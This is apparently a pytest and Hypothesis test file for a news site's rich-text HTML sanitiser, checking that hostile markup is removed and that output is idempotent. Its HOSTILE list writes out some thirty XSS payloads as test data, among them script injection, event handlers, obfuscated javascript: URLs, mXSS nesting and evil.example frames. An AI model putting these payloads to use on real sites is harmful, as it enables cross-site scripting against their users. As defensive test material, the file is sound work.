"""The rich-text sanitiser: hostile markup goes, editor markup stays, twice is once."""

import re

import pytest
from django_prose_editor.config import allowlist_from_extensions
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from editorial.forms import BODY_EDITOR_EXTENSIONS
from newsroom.embeds import embed_html
from newsroom.sanitize import ALLOWED_TAGS, sanitize_html

HOSTILE = [
    ("<script>alert(1)</script><p>Hi</p>", "<p>Hi</p>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""),
    ('<img src="x.png" onerror="alert(1)" alt="A tram">', '<img src="x.png" alt="A tram">'),
    ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href=" javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="java&#x09;script:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="&#106;avascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="vbscript:msgbox(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a rel="noopener noreferrer">x</a>',
    ),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "<img>"),
    ('<p style="background:url(javascript:alert(1))">x</p>', "<p>x</p>"),
    ('<p class="x" id="y" data-x="1">x</p>', "<p>x</p>"),
    ("<iframe src=//evil.example></iframe><p>after</p>", "<p>after</p>"),
    ("<object data=x></object><embed src=x>", ""),
    ("<svg><script>alert(1)</script></svg>", ""),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<style>p{color:red}</style><p>x</p>", "<p>x</p>"),
    ('<form action="//evil.example"><input name="q"><button>Go</button></form>', "Go"),
    ('<base href="//evil.example/">', ""),
    ('<meta http-equiv="refresh" content="0;url=//evil.example">', ""),
    ('<link rel="stylesheet" href="//evil.example/x.css">', ""),
    ("<!-- <script>alert(1)</script> --><p>x</p>", "<p>x</p>"),
    ("<p>x<!--comment--></p>", "<p>x</p>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', None),
    ("<template><script>alert(1)</script></template>", ""),
    ('<a href="https://example.org" target="_blank">x</a>', None),
    ("<p>Nul\x00byte</p>", "<p>Nulbyte</p>"),
    ('<blockquote cite="javascript:alert(1)">q</blockquote>', "<blockquote>q</blockquote>"),
    ('<img src="https://cdn.example/a.jpg" srcset="javascript:alert(1) 1x">', None),
]


@pytest.mark.parametrize(("dirty", "expected"), HOSTILE)
def test_hostile_markup_is_neutralised(dirty, expected):
    clean = sanitize_html(dirty)
    if expected is not None:
        assert clean == expected
    assert_safe(clean)


def assert_safe(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    # A URL attribute holds only http(s), mailto or a relative address (a title may say
    # anything: it is text, never followed).
    for url in re.findall(r'\s(?:href|src|cite)="([^"]*)"', lowered):
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", url)
        assert scheme is None or scheme.group(1) in {"http", "https", "mailto"}, url
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered)
    assert "style=" not in lowered
    assert "<iframe" not in lowered and "<svg" not in lowered and "<style" not in lowered
    assert "srcset" not in lowered
    tags = {t.lower() for t in re.findall(r"<\s*([a-zA-Z0-9]+)", html)}
    assert tags <= ALLOWED_TAGS


def test_links_get_noopener_and_lose_target():
    clean = sanitize_html('<a href="https://example.org/a?b=1&c=2" target="_blank">x</a>')
    assert clean == '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize(
    "href", ["https://example.org/", "http://example.org/", "mailto:desk@example.org", "/a/b/"]
)
def test_safe_links_are_kept(href):
    assert f'href="{href}"' in sanitize_html(f'<a href="{href}">x</a>')


def test_empty_input_is_empty():
    assert sanitize_html(None) == ""
    assert sanitize_html("") == ""


# What django-prose-editor produces with the body's configuration (articles/forms.py).
EDITOR_OUTPUT = (
    "<h2>Section</h2><h3>Sub</h3><h4>Minor</h4>"
    "<p>Plain, <strong>bold</strong>, <em>italic</em> and "
    '<a href="https://example.org/report">a link</a>.<br>New line.</p>'
    "<ul><li><p>One</p></li><li><p>Two</p></li></ul>"
    '<ol start="3"><li><p>Three</p></li></ol>'
    "<blockquote><p>A quote.</p></blockquote>"
    '<figure><img src="https://cdn.example.org/tram.jpg" alt="A tram at dusk" width="800" '
    'height="450"><figcaption>The new tram at dusk.</figcaption></figure>'
    "<hr>"
)


def test_everything_the_body_editor_makes_survives():
    expected = EDITOR_OUTPUT.replace(
        'href="https://example.org/report"',
        'href="https://example.org/report" rel="noopener noreferrer"',
    )
    assert sanitize_html(EDITOR_OUTPUT) == expected


def test_editor_only_adds_what_our_allowlist_accepts():
    """Extra attributes the editor adds (figure's class, data-file) are dropped, nothing else."""
    editor_tags = set(allowlist_from_extensions(BODY_EDITOR_EXTENSIONS)["tags"])
    assert editor_tags <= ALLOWED_TAGS
    editor_markup = (
        '<figure class="figure"><img src="https://cdn.example.org/a.jpg" alt="A" '
        'data-file="7"><figcaption>C</figcaption></figure>'
    )
    assert sanitize_html(editor_markup) == (
        '<figure><img src="https://cdn.example.org/a.jpg" alt="A"><figcaption>C</figcaption>'
        "</figure>"
    )


def test_an_embed_card_survives_and_nothing_else_rides_on_it():
    """The privacy-friendly embed (newsroom/embeds.py) is kept: a figure, a link, a caption."""
    card = embed_html("https://www.youtube.com/watch?v=abc123")
    assert card.startswith('<figure data-embed="youtube"><a href=')
    expected = card.replace('">Watch', '" rel="noopener noreferrer">Watch')
    assert sanitize_html(card) == expected
    assert sanitize_html(expected) == expected
    assert sanitize_html(
        '<figure data-embed="evil"><a href="https://x.example">x</a></figure>'
    ) == ('<figure><a href="https://x.example" rel="noopener noreferrer">x</a></figure>')
    assert sanitize_html('<p data-embed="youtube">x</p>') == "<p>x</p>"


@pytest.mark.parametrize(("dirty", "_"), HOSTILE)
def test_sanitising_twice_changes_nothing_for_hostile_markup(dirty, _):
    once = sanitize_html(dirty)
    assert sanitize_html(once) == once


# Property tests: random soup of tags (allowed and not), attributes and text.
TAGS = sorted(ALLOWED_TAGS | {"script", "style", "div", "span", "svg", "math", "iframe", "form"})
ATTRIBUTES = ["href", "src", "alt", "title", "onclick", "style", "class", "start", "colspan"]
VALUES = st.sampled_from(
    ["https://example.org/", "javascript:alert(1)", "x.png", "1", 'a"b', "<>&", "", "mailto:a@b"]
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=12)


@st.composite
def fragments(draw, depth=0):
    parts = []
    for _ in range(draw(st.integers(0, 3))):
        kind = draw(st.sampled_from(["text", "element", "raw"] if depth < 3 else ["text", "raw"]))
        if kind == "text":
            parts.append(draw(TEXT))
        elif kind == "raw":
            parts.append(
                draw(st.sampled_from(["<", ">", "&", "</p>", "<p>", "<!--", "-->", "&amp;"]))
            )
        else:
            tag = draw(st.sampled_from(TAGS))
            attrs = "".join(
                f' {name}="{value}"'
                for name, value in draw(
                    st.lists(st.tuples(st.sampled_from(ATTRIBUTES), VALUES), max_size=2)
                )
            )
            inner = draw(fragments(depth=depth + 1))
            closing = draw(st.booleans())
            parts.append(f"<{tag}{attrs}>{inner}" + (f"</{tag}>" if closing else ""))
    return "".join(parts)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(fragments())
def test_sanitising_is_idempotent_and_safe_for_any_markup(html):
    once = sanitize_html(html)
    assert sanitize_html(once) == once
    assert_safe(once)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_sanitising_any_text_is_idempotent(text):
    once = sanitize_html(text)
    assert sanitize_html(once) == once
